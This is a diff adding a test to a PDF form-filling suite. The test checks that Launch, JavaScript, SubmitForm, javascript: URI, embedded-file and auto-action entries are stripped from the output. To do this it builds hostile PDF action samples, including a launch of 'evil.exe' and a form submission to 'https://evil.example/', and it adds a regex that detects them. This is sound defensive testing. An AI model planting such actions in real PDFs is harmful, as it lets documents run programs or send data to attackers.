@@ -322,6 +322,24 @@ describe("filling in", () => {
     expect(inside).toContain("AcroForm");
     expect(inside).not.toMatch(/JavaScript|OpenAction|app\.alert/);
   });
+
+  test("nor in its bookmarks, its pages’ structure, its layers or files that hang on it", async () => {
+    const deed = (kind: string, more: string) => `<< /Type /Action /S /${kind} ${more} >>`;
+    const launch = deed("Launch", "/F (evil.exe)");
+    const script = deed("JavaScript", "/JS (app.alert\\(2\\))");
+    const scripted = oldForm(
+      `/Outlines << /First << /Title (a) /A ${script} >> /Last << /Title (b) /A ${launch} >> >> ` +
+        `/Dests << /x << /D [null /Fit] /AA << /O ${script} >> >> >> ` +
+        `/Extra [ << /A ${deed("GoTo", `/D (y) /Next ${script}`)} >> << /Type /Filespec /EF << /F 1 0 R >> >> ` +
+        `<< /A ${deed("SubmitForm", "/F (https://evil.example/)")} >> << /A ${deed("URI", "/URI (javascript:app.alert\\(3\\))")} >> ]`,
+    );
+    const { bytes } = await filled(scripted, { "owner.name": "Ida Grove" });
+    const file = path.join(aFolder(), "plain.pdf");
+    fs.writeFileSync(file, bytes);
+    const inside = execFileSync("qpdf", ["--json", "--json-key=qpdf", file], { encoding: "utf8" });
+    expect(inside).toContain("AcroForm");
+    expect(inside).not.toMatch(/JavaScript|javascript:|app\.alert|Launch|SubmitForm|"\/EF"|"\/AA"/);
+  });
 });
 
 describe("boxes over a form without fields", () => {
